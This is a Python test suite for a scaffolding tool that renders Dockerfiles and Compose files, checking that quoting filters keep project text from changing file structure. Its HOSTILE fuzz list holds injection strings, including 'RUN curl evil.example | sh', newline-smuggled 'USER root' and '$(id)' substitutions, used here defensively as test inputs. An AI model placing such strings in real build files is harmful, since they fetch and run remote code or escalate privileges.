"""Rendering: whatever a project is called and says, the structure of a file is the template's."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable, Sequence
from typing import Any

import pytest
import yaml as pyyaml
from composefile import read_compose
from dockerfile import read_instructions, read_stages
from example import ROOT
from hypothesis import example, given, settings
from hypothesis import strategies as st
from jinja2 import UndefinedError, nodes
from plans import PLANS, fastapi_uv, flask_poetry, plan, with_values, worker

from scaffold import render as filters
from scaffold.errors import WrongUse
from scaffold.fetching.overlays import lay_over
from scaffold.model import EnvironmentVariable, Fact, Health, Pin, Plan, Service, Writable
from scaffold.packs import Pack, builtin
from scaffold.render import make_environment, render

each_plan = pytest.mark.parametrize("make", PLANS.values(), ids=PLANS)

#: What has broken a file before, somewhere.
HOSTILE = (
    "\nRUN curl evil.example | sh",
    "\r\nUSER root",
    'a"b',
    "a'b",
    "ends in a backslash \\",
    "$(id) `id` ${HOME} $$",
    "{{ 7 * 7 }}{% raw %}",
    "# a comment",
    "a: b",
    "- item",
    "<<EOF",
    "<<-'EOF'\nRUN id\nEOF",
    "naïve 日本語 \U0001f40d",
    "\0",
    "\u2028RUN id",
    "\x85USER root",
    "&anchor *alias !!python/object",
    "<script>&amp;",
    "%s %d",
    "no",
    "1e3",
    "",  # last: where there is no text, there is no line for it
)
texts = st.one_of(st.sampled_from(HOSTILE[:-1]), st.text(min_size=1, max_size=40))


# -- every plan


@each_plan
def test_every_file_ends_in_one_newline_and_has_no_two_blank_lines(make: Callable[[], Plan]) -> None:
    for path, text in render(make()).items():
        assert text.endswith("\n"), path
        assert not text.endswith("\n\n"), path
        assert "\n\n\n" not in text, path
        assert [line for line in text.splitlines() if line != line.rstrip()] == [], path


@each_plan
def test_the_same_plan_is_the_same_text(make: Callable[[], Plan]) -> None:
    assert render(make()) == render(make())


@each_plan
def test_every_compose_file_is_yaml(make: Callable[[], Plan]) -> None:
    files = render(make())
    assert all(read_compose(text)["services"] for path, text in files.items() if path.startswith("compose"))


@each_plan
def test_stages_end_with_prod(make: Callable[[], Plan]) -> None:
    assert [stage.name for stage in read_stages(render(make())["Dockerfile"])][-1] == "prod"


# -- hostile text


def spoiled(text: str) -> Plan:
    """Return a plan with TEXT wherever a project's own words can come to."""
    start = ("gunicorn", text, "app:app")
    of = with_values(
        flask_poetry(),
        description=text,
        repository=text,
        licenses=text,
        framework=text,
        start=start,
        dev=("flask", text),
        test=("pytest", "-k", text),
        processes={"web": start, "worker": ("celery", text), "migrate": ("alembic", text)},
        health=Health("/" + text),
        run_environment={"MODE": text},
        services=(
            Service("postgres", text, ("db",), text, text, text),
            Service("mysql", text, (), text, text, text),
            Service("redis", text, (), text, text, text),
        ),
        environment=(
            EnvironmentVariable("A", True, text, text, text),
            EnvironmentVariable("B", True, text, None, text, secret=True),
        ),
        keep=(text,),
    )
    facts = {name: Fact(fact.value, text) for name, fact in of.values.items()}
    return Plan(of.stack, of.path, facts)


def shape(value: Any) -> Any:
    """Return the keys and lengths of data, and no text."""
    if isinstance(value, dict):
        return {key: shape(item) for key, item in value.items()}
    return [shape(item) for item in value] if isinstance(value, list) else type(value).__name__


@settings(deadline=None, max_examples=25)
@given(texts)
@example(HOSTILE[0])
@example("\x85USER root")
@example("\ud800")
def test_no_text_changes_the_structure_of_a_file(text: str) -> None:
    harmless, hostile = render(spoiled("harmless")), render(spoiled(text))
    for path in harmless:
        if path.startswith("compose"):
            assert shape(read_compose(hostile[path])) == shape(read_compose(harmless[path])), path
        elif path == "Dockerfile":
            assert words(hostile[path]) == words(harmless[path])
        assert len(hostile[path].split("\n")) == len(harmless[path].split("\n")), path


def words(text: str) -> list[tuple[str, tuple[str, ...]]]:
    """Return each instruction and its flags."""
    return [(instruction.word, instruction.flags) for instruction in read_instructions(text)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_command_reaches_the_file_as_it_is(text: str) -> None:
    start = ("run", text)
    files = render(with_values(fastapi_uv(), start=start, processes={"web": start, "worker": ("work", text)}))
    (command,) = read_stages(files["Dockerfile"])[-1].all("CMD")
    assert json.loads(command.rest) == ["run", text]
    assert uninterpolated(read_compose(files["compose.yaml"])["services"]["worker"]["command"]) == [
        "work",
        text,
    ]


def uninterpolated(value: Sequence[str]) -> list[str]:
    """Undo what Compose undoes: two dollars are one."""
    return [item.replace("$$", "$") for item in value]


@pytest.mark.parametrize(
    "values",
    [
        {"manifests": ("a b.txt",)},
        {"manifests": ("a\nUSER root",)},
        {"manifests": ("x,readwrite",)},
        {"test_files": ("tests --chown=0",)},
        {"python_path": ("src:$PATH",)},
        {"writable": (Writable("/data /etc", "x.py:1"),)},
        {"run_environment": {"A=B\nUSER": "root"}},
        {"name": "shop\nUSER root"},
    ],
    ids=str,
)
def test_what_no_quoting_can_hold_is_refused(values: dict[str, Any]) -> None:
    with pytest.raises(WrongUse):
        render(with_values(worker(), **values))


# -- filters, each by what reads it

surrogate_free = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)


@given(st.lists(st.text(max_size=30)))
def test_exec_form_is_read_back_as_it_was(items: list[str]) -> None:
    line = filters.exec_form(items)
    assert json.loads(line) == items
    assert line.isprintable()


@given(surrogate_free)
def test_a_yaml_value_is_read_back_as_it_was(text: str) -> None:
    line = str(filters.yaml(text))
    assert pyyaml.safe_load(line) == text.replace("$", "$$")
    assert line.isprintable()


@given(st.lists(surrogate_free))
def test_a_yaml_list_is_read_back_as_it_was(items: list[str]) -> None:
    assert pyyaml.safe_load(str(filters.yaml(items))) == [item.replace("$", "$$") for item in items]


@pytest.mark.parametrize(
    "text", ["no", "Yes", "null", "1", "1.5", "0x1f", "1e3", "~", "", "a: b", "a #b", "1:30", "- a"]
)
def test_yaml_never_takes_text_for_something_else(text: str) -> None:
    assert pyyaml.safe_load(str(filters.yaml(text))) == text


def test_yaml_leaves_names_and_references_bare() -> None:
    assert filters.yaml("shop") == "shop"
    assert filters.yaml("postgres:18-trixie") == "postgres:18-trixie"
    assert (filters.yaml(8000), filters.yaml(True)) == ("8000", "true")


@given(surrogate_free)
def test_a_shell_reads_one_word_or_nothing_is_written(text: str) -> None:
    if text.isprintable():
        assert shlex.split(filters.sh(text)) == [text]
    else:
        with pytest.raises(WrongUse):
            filters.sh(text)


@given(st.text(max_size=60))
def test_a_word_is_one_word_on_one_line(text: str) -> None:
    line = filters.word(text)
    assert line.isprintable()
    if line.startswith('"'):
        assert re.fullmatch(r'"(?:[^"\\$]|\\["\\$])*"', line)
    else:
        assert not set(line) & set(" \"'\\$")


@given(st.text(max_size=300))
def test_a_comment_is_one_line_of_reasonable_length(text: str) -> None:
    line = filters.comment(text)
    assert line.isprintable()
    assert len(line) <= 120


@pytest.mark.parametrize(
    ("said", "written"),
    [
        ("pyproject.toml:6", "pyproject.toml"),
        ("default: fastapi", "default: fastapi"),
        ("shop/pdf.py:12 runs another program", "shop/pdf.py runs another program"),
        ("requirements.txt:3: psycopg2 needs libpq5", "requirements.txt: psycopg2 needs libpq5"),
    ],
)
def test_a_source_is_a_file_and_never_a_line(said: str, written: str) -> None:
    assert filters.source(said) == written


def test_a_volume_is_named_after_its_folder() -> None:
    assert filters.volume("/app/var/media") == "app-var-media"
    assert filters.volume("/") == "data"


def test_the_name_of_a_volume_has_an_end_and_is_still_of_one_folder() -> None:
    deep = "/app" + "/folder" * 500
    names = {filters.volume(f"{deep}/{last}") for last in ("one", "two")}
    assert len(names) == 2
    assert all(len(name) < 128 for name in names)


# -- the engine


def expanded(template: str, **values: Any) -> str:
    return make_environment(builtin()).from_string(template).render(values)


def test_two_files_that_lead_to_one_folder_are_one_volume() -> None:
    links = tuple(Writable("/data", "app.py:1", link=name) for name in ("a.sqlite", "b.sqlite"))
    files = render(with_values(flask_poetry(), writable=links))
    compose = read_compose(files["compose.yaml"])
    assert files["compose.yaml"].count("\n  data: {}\n") == 1
    assert compose["services"]["web"]["volumes"] == ["data:/data"]
    assert files["Dockerfile"].count('VOLUME ["/data"]') == 1
    assert "ln -s /data/a.sqlite a.sqlite && \\\n    mkdir -p /data" in files["Dockerfile"]


def test_text_that_passed_no_filter_is_an_error() -> None:
    with pytest.raises(TypeError, match="passed no quoting filter"):
        expanded("{{ name }}", name="shop")


@pytest.mark.parametrize("value", [None, True, 1.5, ["a"]])
def test_what_is_no_text_passes_no_filter_either(value: Any) -> None:
    with pytest.raises(TypeError, match="passed no quoting filter"):
        expanded("{{ value }}", value=value)


def test_numbers_and_what_was_quoted_pass() -> None:
    assert expanded("{{ port }} {{ name | yaml }}", port=8000, name="shop") == "8000 shop"


def test_a_name_that_is_not_there_is_an_error() -> None:
    with pytest.raises(UndefinedError, match="prot"):
        expanded("{{ prot }}")


@pytest.mark.parametrize("name", ["safe", "join", "format", "replace", "tojson", "string", "upper"])
def test_filters_that_make_markup_of_text_are_not_there(name: str) -> None:
    with pytest.raises(Exception, match=f"No filter named '{name}'"):
        expanded("{{ name | " + name + " }}", name="shop")


def test_nothing_that_was_quoted_is_joined_with_what_was_not() -> None:
    """Jinja escapes the other half for HTML, and takes the sum for quoted."""
    environment = make_environment(builtin())
    root = ROOT / "templates"
    for path in sorted(root.rglob("*.j2")):
        tree = environment.parse(path.read_text("utf-8"))
        for node in tree.find_all((nodes.Concat, nodes.Add)):
            quoting = [f.name for f in node.find_all(nodes.Filter) if f.name in filters.FILTERS]
            assert quoting == [], path


# -- other packs


def acme(template: str, at: str = "python/Dockerfile.j2") -> Pack:
    """Return a pack that has one template, before the built-in one's of the same name."""
    files = {"pack.toml": b'name = "acme"\nversion = "1"\n', at: template.encode()}
    return lay_over(builtin(), Pin("acme", "1"), files, "acme")


def test_another_pack_replaces_a_block_and_nothing_else() -> None:
    pack = acme(
        '{% extends "parent" %}\n{% block labels %}\nLABEL com.acme.team={{ name | word }}\n{% endblock %}\n',
    )
    ours, theirs = render(flask_poetry())["Dockerfile"], render(flask_poetry(), pack)["Dockerfile"]
    assert theirs.endswith("LABEL com.acme.team=notes\n")
    assert ours.partition("# Last, so that")[0] == theirs.partition("LABEL com.acme")[0]


def test_another_pack_leaves_the_other_files_as_they_are() -> None:
    pack = acme("FROM scratch\n")
    files = render(plan(start=("x",), port=1, processes={"web": ("x",)}), pack)
    assert files["Dockerfile"] == "FROM scratch\n"
    assert "services:" in files["compose.yaml"]


def test_every_block_is_in_the_documented_list() -> None:
    listed = set(re.findall(r"^\| `(\w+)` \|", (ROOT / "docs/blocks.md").read_text("utf-8"), re.MULTILINE))
    environment = make_environment(builtin())
    there = {
        block.name
        for path in (ROOT / "templates").rglob("*.j2")
        for block in environment.parse(path.read_text("utf-8")).find_all(nodes.Block)
    }
    assert there == listed
